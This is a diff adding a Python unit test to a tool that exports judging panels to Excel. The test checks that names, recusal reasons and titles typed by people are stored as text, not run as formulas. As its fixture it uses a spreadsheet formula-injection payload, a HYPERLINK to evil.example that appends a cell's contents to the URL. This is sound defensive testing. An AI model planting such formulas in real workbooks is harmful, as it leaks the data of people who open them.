@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+from dataclasses import replace
 from datetime import UTC, datetime
 from decimal import Decimal
 
@@ -223,3 +224,27 @@ def test_rule_text_says_where_a_factor_is_rounded():
     assert panel_rule_text(PanelRule(1, 1, factor="1.67")).count("只舍入一次") == 0
     exact = PanelRule(1, 1, factor="0.95", round_before_factor=False)
     assert "乘以系数 0.95（按未舍入的值相乘，只舍入一次）" in panel_rule_text(exact)
+
+
+def test_names_reasons_and_titles_stay_text_never_formulas(composed):
+    # Agency and judge names, group names and recusal reasons are typed by people (reasons
+    # by judges and inspectors): an "=…" cell must not run as a formula when an organizer
+    # opens the workbook, and a control character pasted from Word must not break it.
+    link = '=HYPERLINK("http://evil.example/?"&A1,"详见说明")'
+    first = next(iter(composed.agencies))
+    judge = next(iter(composed.judges))
+    agencies = dict(composed.agencies)
+    agencies[first] = replace(agencies[first], name=link, group="=1+1")
+    judges = dict(composed.judges)
+    judges[judge] = replace(judges[judge], name="=2+2")
+    recusals = (replace(composed.recusals[0], reason="=3+3\x07"), *composed.recusals[1:])
+    hostile = replace(composed, title="=4+4\x0b评议", agencies=agencies, judges=judges,
+                      recusals=recusals)
+    book = load_workbook(io.BytesIO(build_workbook(hostile, now=NOW)))
+    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in book.worksheets
+                for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert formulas == []
+    texts = {cell.value for sheet in book.worksheets for row in sheet.iter_rows()
+             for cell in row if isinstance(cell.value, str)}
+    assert {link, "=1+1", "=2+2", "=3+3"} <= texts  # as typed, minus the control character
+    assert book["总成绩"]["A1"].value.startswith("=4+4评议")
